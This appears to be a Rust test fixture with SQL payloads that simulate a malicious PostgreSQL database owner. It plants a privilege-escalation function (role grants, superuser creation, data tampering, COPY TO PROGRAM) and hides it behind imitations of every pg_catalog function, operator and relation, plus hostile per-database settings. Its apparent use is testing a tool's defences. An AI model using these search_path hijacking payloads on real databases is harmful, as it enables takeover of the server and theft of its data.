//! What a database owner plants who is an attacker, to be executed by a superuser later.

/// `strike()` tries to gain privileges. `hit(n)`, `ok(n)` and the trigger `fire()` call it and pretend to be harmless. The test
/// fills in `$NUMBER`, of the database, and `$MARKER`, a file that only a successful attack creates.
pub const STRIKE: &str = "
CREATE FUNCTION public.strike() RETURNS void LANGUAGE plpgsql AS $body$ DECLARE step text; BEGIN
  FOREACH step IN ARRAY ARRAY['RESET SESSION AUTHORIZATION', 'RESET ROLE', 'SET SESSION AUTHORIZATION boss', 'SET ROLE boss',
    'CREATE ROLE gained_$NUMBER SUPERUSER', 'ALTER ROLE app SUPERUSER CREATEROLE', 'GRANT victim TO app',
    'GRANT pg_read_server_files TO app', 'GRANT pg_execute_server_program TO app', 'GRANT ALL ON SCHEMA victims TO app',
    'UPDATE victims.secrets SET value = 106', 'INSERT INTO victims.secrets VALUES (1)',
    'CREATE FUNCTION victims.planted() RETURNS int LANGUAGE sql AS ''SELECT 1''',
    'COPY (SELECT 1) TO ''$MARKER''', 'COPY (SELECT 1) TO PROGRAM ''touch $MARKER'''] LOOP
    BEGIN EXECUTE step; EXCEPTION WHEN OTHERS THEN NULL; END;
  END LOOP; END $body$;
CREATE FUNCTION public.hit(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS 'BEGIN PERFORM public.strike(); RETURN $1; END';
CREATE FUNCTION public.ok(int) RETURNS bool LANGUAGE plpgsql IMMUTABLE AS 'BEGIN PERFORM public.strike(); RETURN true; END';
CREATE FUNCTION public.fire() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN PERFORM public.strike(); RETURN NEW; END'";

/// An imitation, in schema `public`, of each of the server's functions, operators and relations that a user can imitate. Each
/// calls `strike()`: a superuser's statement that resolves to one of them instead of the original runs it with the superuser's
/// privileges.
pub const TWINS: &str = "
DO $twins$ DECLARE one record; body text; BEGIN
  FOR one IN SELECT p.proname, p.proretset, pg_catalog.format_type(p.prorettype, NULL) AS result,
      (SELECT coalesce(pg_catalog.string_agg(pg_catalog.format_type(t, NULL), ', ' ORDER BY place), '')
       FROM pg_catalog.unnest(p.proargtypes) WITH ORDINALITY AS a (t, place)) AS arguments
    FROM pg_catalog.pg_proc p WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND p.provariadic = 0
      AND p.proallargtypes IS NULL
      AND NOT EXISTS (SELECT FROM pg_catalog.pg_type t WHERE t.typtype = 'p' AND t.oid = ANY (p.proargtypes::oid[] || p.prorettype))
  LOOP
    body := CASE WHEN one.proretset THEN 'RETURN' ELSE 'RETURN NULL' END;
    BEGIN EXECUTE pg_catalog.format('CREATE FUNCTION public.%I(%s) RETURNS %s %s LANGUAGE plpgsql AS %L', one.proname, one.arguments,
      CASE WHEN one.proretset THEN 'SETOF' ELSE '' END, one.result, 'BEGIN PERFORM public.strike(); ' || body || '; END');
    EXCEPTION WHEN OTHERS THEN NULL; END;
  END LOOP;
  FOR one IN SELECT o.oprname, pg_catalog.format_type(o.oprleft, NULL) AS l, pg_catalog.format_type(o.oprright, NULL) AS r,
      pg_catalog.format_type(o.oprresult, NULL) AS result, 'twin_' || o.oid::text AS twin
    FROM pg_catalog.pg_operator o JOIN pg_catalog.pg_type a ON a.oid = o.oprleft AND a.typtype <> 'p'
    JOIN pg_catalog.pg_type b ON b.oid = o.oprright AND b.typtype <> 'p' WHERE o.oprnamespace = 'pg_catalog'::regnamespace
  LOOP
    BEGIN
      EXECUTE pg_catalog.format('CREATE FUNCTION public.%I(%s, %s) RETURNS %s LANGUAGE plpgsql AS %L', one.twin, one.l, one.r,
        one.result, 'BEGIN PERFORM public.strike(); RETURN NULL; END');
      EXECUTE pg_catalog.format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.%I)', one.oprname,
        one.l, one.r, one.twin);
    EXCEPTION WHEN OTHERS THEN NULL; END;
  END LOOP;
  FOR one IN SELECT c.relname FROM pg_catalog.pg_class c WHERE c.relnamespace = 'pg_catalog'::regnamespace
    AND c.relkind IN ('r', 'v') LOOP
    EXECUTE pg_catalog.format('CREATE VIEW public.%I AS SELECT public.hit(1) AS oid', one.relname);
  END LOOP;
END $twins$";

/// Settings that the owner of database `$DATABASE` may give it, and that would change what a statement means, says or may do.
pub const SETTINGS: [&str; 14] = [
    "search_path = public, pg_catalog",
    "role = 'app'",
    "default_transaction_read_only = on",
    "default_transaction_isolation = 'serializable'",
    "standard_conforming_strings = off",
    "escape_string_warning = on",
    "quote_all_identifiers = on",
    "transform_null_equals = on",
    "array_nulls = off",
    "datestyle = 'SQL, DMY'",
    "timezone = 'Asia/Kolkata'",
    "bytea_output = 'escape'",
    "statement_timeout = 1",
    "lock_timeout = 1",
];

/// [`SETTINGS`] of a database, as SQL.
#[must_use]
pub fn settings(database: &str) -> String {
    SETTINGS.map(|setting| format!("ALTER DATABASE {database} SET {setting}")).join("; ")
}
